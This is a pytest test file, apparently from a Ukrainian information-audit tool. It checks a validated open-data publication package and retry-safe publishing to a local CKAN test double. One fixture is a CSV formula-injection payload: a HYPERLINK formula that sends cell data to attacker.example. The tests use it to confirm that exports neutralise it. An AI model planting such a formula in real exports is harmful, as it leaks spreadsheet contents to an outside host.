"""The publication package (validated with frictionless) and `infoaudit publish` against a real
HTTP server on loopback speaking CKAN's action API (package_show/create/update,
resource_create/update with an API token), including retries that never duplicate."""

import csv
import dataclasses
import hashlib
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader

from api.cli import main as cli_main
from flows.publish import PublishError, prepare_package, publish_package
from models.clock import FixedClock
from models.services.publication_package import validate_package
from models.standards import field_names
from tests.doubles.ckan import PUBLISH_TOKEN, PublishPortal, publish_portal
from tests.factories import (
    at,
    create_organization,
    full_item,
    launch,
    login,
    plan,
    questionnaire,
    token_of,
)

OWNER = "test-rada"
TOKEN = PUBLISH_TOKEN


@pytest.fixture
def portal(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, PublishPortal]]:
    """A CKAN-speaking server on a loopback port (on the allow list)."""
    with publish_portal(monkeypatch) as served:
        yield served


def _set_portal(client: TestClient, org_id: int, email: str, url: str, token: str) -> None:
    response = client.put(
        f"/api/organizations/{org_id}/portal",
        headers=login(client, email),
        json={"portal_url": url, "portal_organization": OWNER, "api_token": token},
    )
    assert response.status_code == 200, response.text


def _approved_cycle(client: TestClient, clock: FixedClock) -> tuple[int, dict[str, Any]]:
    from flows.report import render_version

    org = create_organization(client)
    coordinator = org["coordinator"]
    official = {"full_name": "Коваль Олена", "position": "начальниця", "email": "o@example.org"}
    register = client.post(
        f"/api/organizations/{org['id']}/register",
        headers=coordinator,
        json=[
            {
                "number": 1,
                "name": "Бюджет громади",
                "units": ["Загальний відділ"],
                "officials": [official],
                "periodicity": "щороку",
                "portal_url": "https://data.gov.ua/dataset/budget-test",
            },
            {
                "number": 2,
                "name": "Перелік об’єктів комунальної власності",
                "units": ["Загальний відділ"],
                "officials": [official],
                "periodicity": "щоквартально",
            },
        ],
    )
    assert register.status_code in (200, 201), register.text
    published = client.post(
        f"/api/organizations/{org['id']}/register/1/publication",
        headers=coordinator,
        json={
            "state": "published",
            "observed_on": "2024-09-20",
            "last_updated_on": "2023-01-10",
            "formats": ["xlsx"],
            "url": "https://data.gov.ua/dataset/budget-test",
        },
    )
    assert published.status_code == 201, published.text
    cycle = launch(client, coordinator, plan())
    links = {link["unit"]: token_of(link["url"]) for link in cycle["links"]}
    clock.set(at("2024-09-23"))
    from flows.audit_cycle import audit_cycle

    audit_cycle(cycle["id"], clock.now())
    assert (
        client.post(
            f"/api/questionnaire/{links['Загальний відділ']}",
            json=questionnaire(systems=2, items=0)
            | {
                "respondent": {
                    "full_name": "Петренко Іван",
                    "email": "p@example.org",
                    "phone": "+380 (50) 123-45-67",
                },
                "items": [full_item(1), {**full_item(2), "description": FORMULA}],
            },
        ).status_code
        == 201
    )
    clock.set(at("2024-10-07"))
    render_version(cycle["id"], clock.now())
    coordinator = login(client, org["coordinator_email"])
    approve = client.post(
        f"/api/cycles/{cycle['id']}/report/versions/1/approve", headers=coordinator
    )
    assert approve.status_code == 200, approve.text
    return int(cycle["id"]), org


# A description a spreadsheet would run (CSV formula injection), typed by a staff member.
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Архів")'


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


@pytest.mark.slow
def test_package_is_valid_and_publish_never_duplicates(
    client: TestClient,
    clock: FixedClock,
    portal: tuple[str, PublishPortal],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    url, state = portal
    cycle_id, org = _approved_cycle(client, clock)
    org_id, coordinator_email = org["id"], org["coordinator_email"]
    out = tmp_path / "package"
    package = prepare_package(cycle_id, out, clock.now())
    names = sorted(f.name for f in package.files)
    tables = (
        "audit-results", "register", "register-state", "units-rating", "inventory-systems",
        "survey-aggregates",
    )  # fmt: skip
    expected = [f"{t}.{ext}" for t in tables for ext in ("csv", "json")]
    assert names == sorted([*expected, "report.pdf", "datapackage.json"])
    descriptor = json.loads((out / "datapackage.json").read_text())
    assert {r["path"] for r in descriptor["resources"]} == set(names) - {"datapackage.json"}
    assert validate_package(out) == []
    # The Ministry's structures: exactly their fields, in their order, values in their formats.
    audit = _rows(out / "audit-results.csv")
    assert audit[0] == field_names("infoAudit")
    assert len(audit[0]) == 29
    first = dict(zip(audit[0], audit[1], strict=True))
    assert first["dataUserTelephone"] == "+380501234567"
    assert first["dateCreated"] == "2016-01-01"
    assert first["dataUser"] == "Загальний відділ"
    assert first["developerId"] == "12345678"
    # Every CSV keeps a formula as text (a leading apostrophe), the JSON keeps it verbatim,
    # and a +380 phone stays as the structure requires.
    by_name = {row[audit[0].index("title")]: dict(zip(audit[0], row, strict=True)) for row in audit}
    assert by_name["Вид інформації 2"]["description"] == "'" + FORMULA
    items = json.loads((out / "audit-results.json").read_text())
    assert FORMULA in [i["description"] for i in items]
    annex4 = PdfReader(out / "report.pdf").attachments["annex4.csv"][0].decode("utf-8-sig")
    assert ["2", "Вид інформації 2", "'" + FORMULA] in [
        r[:3] for r in csv.reader(io.StringIO(annex4))
    ]
    register = _rows(out / "register.csv")
    assert register[0] == field_names("register")
    assert len(register[0]) == 12
    budget = dict(zip(register[0], register[1], strict=True))
    assert budget["accrualPeriodicity"] == "Щороку"
    assert budget["uid"] == "budget-test"
    assert budget["distributionFormat"] == "XLSX"
    assert budget["contactPointName"] == "Коваль Олена"
    assert dict(zip(register[0], register[2], strict=True))["accrualPeriodicity"] == "Щокварталу"
    assert (out / "report.pdf").read_bytes().startswith(b"%PDF")
    systems = json.loads((out / "inventory-systems.json").read_text())
    assert [s["name"] for s in systems] == ["Система 1", "Система 2"]
    # The unit rating and Annex 1's state, dates and formats in their own columns.
    annex1 = json.loads(PdfReader(out / "report.pdf").attachments["annex1.json"][0])
    assert annex1[0]["state"] == "оприлюднено"
    assert annex1[0]["last_updated"] == "2023-01-10"
    assert annex1[0]["due_on"]
    assert int(annex1[0]["overdue_days"]) > 0
    assert annex1[1]["state"] == "не оприлюднено"
    assert _rows(out / "units-rating.csv")[1][1] == "Загальний відділ"

    # Broken values are caught against the repository's Table Schemas.
    broken = register[1][:3] + ["Щоденно"] + register[1][4:]
    (out / "register.csv").write_text(",".join(register[0]) + "\n" + ",".join(broken) + "\n")
    assert any("accrualPeriodicity" in e for e in validate_package(out))
    (out / "register.csv").write_text("number,name\n1,x\n")
    assert validate_package(out)

    # The CLI: first run creates the dataset and uploads every file, with the organization's
    # own key (the portal is the organization's).
    _set_portal(client, org_id, coordinator_email, url, TOKEN)
    args = [
        "publish",
        str(cycle_id),
        "--out",
        str(tmp_path / "p1"),
        "--portal",
        url,
        "--organization",
        OWNER,
        "--now",
        "2024-10-15",
    ]
    assert cli_main(args) == 0
    assert list(state.packages) == [package.name]
    resources = state.packages[package.name]["resources"]
    assert sorted(r["name"] for r in resources) == names
    pdf = next(r for r in resources if r["name"] == "report.pdf")
    assert state.uploads[pdf["id"]] == (tmp_path / "p1" / "report.pdf").read_bytes()
    assert pdf["hash"] == hashlib.sha256(state.uploads[pdf["id"]]).hexdigest()

    # A second run changes nothing: update the dataset, skip every unchanged file.
    state.calls.clear()
    assert cli_main(args) == 0
    assert "package_create" not in state.calls
    assert "package_update" in state.calls
    assert "resource_create" not in state.calls
    assert "resource_update" not in state.calls
    assert len(state.packages[package.name]["resources"]) == len(names)

    # The portal's own fields, and the API key on every write (also the multipart ones).
    dataset = state.packages[package.name]
    assert dataset["language"] == "ua"
    assert dataset["update_frequency"] == "once a year"
    assert 0 < len(dataset["purpose_of_collecting_information"]) <= 512
    assert dataset["tag_string"]
    assert dataset["owner_org"] == OWNER
    assert all(h.get("X-CKAN-API-Key") == TOKEN for h in state.headers)

    # Months later an auditor records a backdated state and the clock has moved on: published
    # without --now, the register is still the approved report's Annex 1, row for row.
    late = client.post(
        f"/api/organizations/{org_id}/register/2/publication",
        headers=login(client, coordinator_email),
        json={"state": "published", "observed_on": "2024-09-22", "formats": ["csv"]},
    )
    assert late.status_code == 201, late.text
    clock.set(at("2025-06-01"))
    assert cli_main([*args[:3], str(tmp_path / "p2"), *args[4:8]]) == 0
    later = _rows(tmp_path / "p2" / "register.csv")
    assert later == register
    assert [(r[1], r[3], r[7]) for r in later[1:]] == [
        (a["name"], a["accrual_periodicity"], a["formats"]) for a in annex1
    ]
    state_rows = _rows(tmp_path / "p2" / "register-state.csv")
    assert [row[6] for row in state_rows[1:]] == [r["state"] for r in annex1]
    assert [row[9] for row in state_rows[1:]] == [str(r["overdue_days"]) for r in annex1]
    assert later[2][7] == ""  # row 2 stays unpublished (no formats), as the report says

    # Wrong token: a clear refusal, exit code 3.
    _set_portal(client, org_id, coordinator_email, url, "wrong")
    assert cli_main(args) == 3


@pytest.mark.slow
def test_retries_after_timeouts_and_5xx_create_nothing_twice(
    client: TestClient, clock: FixedClock, portal: tuple[str, PublishPortal], tmp_path: Path
) -> None:
    url, state = portal
    cycle_id, _ = _approved_cycle(client, clock)
    package = prepare_package(cycle_id, tmp_path / "package", clock.now())
    # The portal creates the dataset and the first resource but answers too late, and fails
    # an update with HTTP 500 once: each retry re-reads the portal first.
    state.fail = {"package_create": "slow-after-work", "resource_create": "slow-after-work"}
    result = publish_package(
        package, portal_url=url, token=TOKEN, owner_org=OWNER, attempts=3, delay=0.1, timeout=0.5
    )
    assert list(state.packages) == [package.name]
    resources = state.packages[package.name]["resources"]
    assert sorted(r["name"] for r in resources) == sorted(f.name for f in package.files)
    assert len(resources) == len(package.files)
    assert state.calls.count("package_create") == 1
    assert len(result.uploaded) + len(result.unchanged) == len(package.files)

    state.fail = {"package_update": "500-before-work"}
    again = publish_package(package, portal_url=url, token=TOKEN, owner_org=OWNER, delay=0.1)
    assert again.unchanged == [f.name for f in package.files]
    assert len(state.packages[package.name]["resources"]) == len(package.files)

    # What data.gov.ua refuses, the double refuses: a frequency outside its codes.
    wrong = dataclasses.replace(package, name="infoaudit-other", update_frequency="annual")
    with pytest.raises(PublishError, match="update_frequency"):
        publish_package(wrong, portal_url=url, token=TOKEN, owner_org=OWNER, delay=0.1)
    assert "infoaudit-other" not in state.packages

    with pytest.raises(PublishError, match="ключ API"):
        publish_package(package, portal_url=url, token="nope", owner_org=OWNER, delay=0.1)
    with pytest.raises(PublishError, match="ключ API"):
        publish_package(package, portal_url=url, token="", owner_org=OWNER)
